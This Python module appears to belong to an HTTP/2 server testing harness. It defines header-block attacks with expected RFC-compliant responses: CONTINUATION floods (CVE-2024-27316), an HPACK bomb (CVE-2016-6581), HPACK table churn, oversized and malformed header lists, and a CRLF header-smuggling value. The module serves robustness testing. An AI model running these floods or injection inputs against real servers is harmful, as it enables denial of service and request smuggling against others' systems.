"""Header blocks that are too much, or wrong. RFC 7541; RFC 9113 sections 8.2, 8.3 and 10.5.1."""

from calls import block, headers, indexed, integer, literal, remembered, request, table_size
from harness import attack
from http2 import CONTINUATION, END_HEADERS, END_STREAM, FRAME_MAX, HEADERS, Http2Link, frame
from http2_framing import PROTOCOL_ERROR, broken

COMPRESSION_ERROR = ("goaway COMPRESSION_ERROR", PROTOCOL_ERROR)
MALFORMED = ("reset PROTOCOL_ERROR", PROTOCOL_ERROR)
TOO_LARGE = ("http 431", "reset *", "goaway *", "status 8")
CALM = ("goaway ENHANCE_YOUR_CALM", PROTOCOL_ERROR, "goaway COMPRESSION_ERROR", "closed")
ALONE = END_HEADERS | END_STREAM


def whole(name, rule, accepts, *blocks):
    """Registers an attack that opens stream 1 with one of some header blocks, or lists of fields."""
    broken(name, rule, accepts, *(headers(1, fields, ALONE) for fields in blocks), stream=1)


def without(name, *more):
    """A call's fields without those of a name, and with others."""
    return [pair for pair in request() if pair[0] != name] + list(more)


def in_parts(made, size):
    """A header block in HEADERS and CONTINUATION frames."""
    parts = [made[at : at + size] for at in range(0, len(made), size)]
    frames = [
        frame(HEADERS if not at else CONTINUATION, END_STREAM if not at else 0, 1, part)
        for at, part in enumerate(parts)
    ]
    return b"".join(frames[:-1]) + frame(CONTINUATION, END_HEADERS, 1, parts[-1])


@attack("http2", "h2-continuation-flood", *CALM)
def continuation_flood(attempt):
    """CVE-2024-27316 and others: CONTINUATION frames of 16 KiB without END_HEADERS, without end."""
    link = attempt.link(Http2Link).open()
    link.send(headers(1, request(), 0))
    part = frame(CONTINUATION, 0, 1, literal("a", bytes([97]) * (FRAME_MAX - 8)))
    while attempt.goes_on() and not link.is_ending and link.send(part):
        pass
    return link.settle()


@attack("http2", "h2-continuation-small", *CALM)
def continuation_small(attempt):
    """CVE-2024-27316 and others: empty CONTINUATION frames, and such of one byte, without END_HEADERS."""
    link = attempt.link(Http2Link).open()
    link.send(headers(1, request(), 0))
    part = attempt.random.choice((frame(CONTINUATION, 0, 1), frame(CONTINUATION, 0, 1, b"\x82"))) * 100
    while attempt.goes_on() and not link.is_ending and link.send(part, 100):
        pass
    return link.settle()


@attack("http2", "h2-hpack-bomb", *TOO_LARGE, "closed", connections=4)
def hpack_bomb(attempt):
    """CVE-2016-6581: an entry of 4,000 bytes in the dynamic table, named 16,000 times in each block."""
    link = attempt.link(Http2Link).open()
    link.send(headers(1, block(*request()) + remembered("bomb", b"b" * 4_000), ALONE))
    bomb = block(*request()) + indexed(62) * (FRAME_MAX - 400)
    for stream in range(3, 20_001, 2):
        if not link.send(headers(stream, bomb, ALONE)) or link.is_ending or not attempt.goes_on():
            break
    return link.outcome(3)


@attack("http2", "h2-hpack-churn", "open", "goaway *", "closed")
def hpack_churn(attempt):
    """RFC 7541 section 4.4: each block fills the dynamic table anew, and throws out what was there."""
    link = attempt.link(Http2Link).open()
    entries = b"".join(remembered(f"k{number}", b"v" * 10) for number in range(80))
    for stream in range(1, 200_001, 2):
        if (
            not attempt.goes_on()
            or link.is_ending
            or not link.send(headers(stream, block(*request("/x")) + entries, ALONE))
        ):
            break
        link.wait(lambda: link.is_ending or link.outcome_of(stream))
        link.streams.clear()
    return link.settle()


broken(
    "h2-header-list-too-large",
    "RFC 9113 section 10.5.1: fields of more than the 8 KiB of SETTINGS_MAX_HEADER_LIST_SIZE.",
    TOO_LARGE,
    headers(1, request() + [("a", "b" * 9_000)], ALONE),
    headers(1, request() + [("ab", "c")] * 400, ALONE),
    headers(1, without(":path", (":path", "/" + "x" * 12_000)), ALONE),
    in_parts(block(*request(), ("a", "b" * 60_000)), FRAME_MAX),
    headers(1, block(*request()) + (indexed(16) * 2_000), ALONE),
    stream=1,
)
broken(
    "h2-header-list-in-parts",
    "RFC 9113 section 6.10: a call whose header block comes in a few parts is served.",
    "status 3",
    in_parts(block(*request()), 40),
    stream=1,
)
whole(
    "h2-hpack-garbage",
    "RFC 7541 section 2.3.3 and 5.2: indices of no table, strings longer than the block, bad Huffman codes.",
    COMPRESSION_ERROR,
    b"\x80",
    indexed(200),
    indexed(2**31),
    b"\x00\x7f",
    b"\x00\x01a\x85\xff\xff\xff\xff\xff",
    b"\x00\x01a" + integer(10_000, 7, 0) + b"x",
    b"\x00" * 50 + b"\x40",
    b"\xff" * 100,
    indexed(62),
)
whole(
    "h2-hpack-integer",
    "RFC 7541 section 5.1: integers that do not fit, or never end.",
    COMPRESSION_ERROR,
    b"\xff" + b"\xff" * 20 + b"\x7f",
    b"\x7f" + b"\x80" * 5_000,
    b"\x00\x7f" + b"\x80" * 9 + b"\x01",
    b"\x3f" + b"\xff" * 12 + b"\x01",
)
whole(
    "h2-hpack-table-size",
    "RFC 7541 sections 4.2 and 6.3: a dynamic table larger than was allowed, or changed amid a block.",
    COMPRESSION_ERROR,
    table_size(2**30) + block(*request()),
    table_size(65_536) + block(*request()),
    block(*request()) + table_size(0),
)
whole(
    "h2-missing-pseudo-headers",
    "RFC 9113 section 8.3.1: a request without :method, :scheme or :path, or with an empty :path.",
    MALFORMED + ("status 12", "http 4??"),
    *(without(name) for name in (":method", ":scheme", ":path")),
    without(":path", (":path", "")),
    [],
)
whole(
    "h2-duplicate-pseudo-headers",
    "RFC 9113 section 8.3.1: a pseudo-header twice.",
    MALFORMED,
    *(sorted(request() + [pair], key=lambda pair: not pair[0].startswith(":")) for pair in request()[:3]),
)
whole(
    "h2-misplaced-pseudo-headers",
    "RFC 9113 section 8.3: pseudo-headers behind others, of answers, or unknown.",
    MALFORMED,
    without(":path", (":path", "/x")),
    [(":status", "200"), *request()],
    [(":unknown", "x"), *request()],
    [(":protocol", "websocket"), *request()],
)
whole(
    "h2-upper-case-names",
    "RFC 9113 section 8.2.1: field names in upper case are malformed.",
    MALFORMED,
    *(request() + [(name, "x")] for name in ("Upper", "X", "cairn-Agency")),
)
whole(
    "h2-forbidden-bytes",
    "RFC 9113 section 8.2.1: names and values with NUL, CR, LF, spaces or colons where they may not be.",
    MALFORMED + ("status 3", "goaway COMPRESSION_ERROR"),
    *(
        request() + [pair]
        for pair in (
            ("a", b"x\0y"),
            ("a", b"x\r\ny: z"),
            ("a", b"\n"),
            (b"a\0", "x"),
            ("a b", "x"),
            ("a:b", "x"),
            ("", "x"),
            (b"\xff", "x"),
        )
    ),
)
whole(
    "h2-connection-headers",
    "RFC 9113 section 8.2.2: fields about the connection are malformed; te is trailers alone.",
    MALFORMED + ("status 3", "http 400"),
    *(
        request() + [pair]
        for pair in (
            ("connection", "close"),
            ("transfer-encoding", "chunked"),
            ("upgrade", "h2c"),
            ("keep-alive", "1"),
            ("proxy-connection", "x"),
        )
    ),
    without("te", ("te", "gzip")),
)
